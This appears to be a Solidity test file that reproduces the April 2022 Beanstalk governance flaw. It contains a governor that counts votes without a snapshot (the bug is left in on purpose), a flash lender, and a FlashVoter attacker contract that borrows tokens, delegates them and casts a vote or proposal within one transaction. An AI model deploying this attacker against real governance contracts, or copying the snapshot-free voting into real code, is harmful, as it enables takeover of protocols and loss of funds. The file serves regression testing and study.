// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";

/// @notice Test-only reproduction of Beanstalk's governance (Apr 2022): a vote weighs the voter's
/// votes at the moment it is cast, so votes borrowed for one transaction count in full.
contract SpotVoteGovernor {
    IVotes public immutable token;
    mapping(uint256 id => uint256) public forVotes;

    constructor(IVotes token_) {
        token = token_;
    }

    function castVote(uint256 id, uint8) external returns (uint256 weight) {
        weight = token.getVotes(msg.sender); // the bug: no snapshot
        forVotes[id] += weight;
    }
}

/// @notice Test-only flash lender: lends its whole balance of `token` for one call and checks it came back.
contract FlashLender {
    IERC20 public immutable token;

    error NotRepaid(uint256 lent, uint256 back);

    constructor(IERC20 token_) {
        token = token_;
    }

    function flashLoan(FlashVoter borrower, bytes calldata data) external {
        uint256 amount = token.balanceOf(address(this));
        token.transfer(address(borrower), amount);
        borrower.onFlashLoan(amount, data);
        uint256 back = token.balanceOf(address(this));
        if (back < amount) revert NotRepaid(amount, back);
    }
}

/// @notice Test-only attacker: borrows the lender's tokens, delegates them to itself, makes `target`
/// call `data` (a vote or a proposal), records the voting weight the call returned, and repays.
contract FlashVoter {
    IVotes public immutable token;
    FlashLender public immutable lender;
    bool public callOk;
    bytes public callResult;

    error NotLender(address caller);

    constructor(IVotes token_, FlashLender lender_) {
        token = token_;
        lender = lender_;
    }

    function attack(address target, bytes calldata data) external {
        lender.flashLoan(this, abi.encode(target, data));
    }

    function onFlashLoan(uint256 amount, bytes calldata packed) external {
        if (msg.sender != address(lender)) revert NotLender(msg.sender);
        (address target, bytes memory data) = abi.decode(packed, (address, bytes));
        token.delegate(address(this));
        (callOk, callResult) = target.call(data);
        IERC20(address(token)).transfer(address(lender), amount);
    }
}
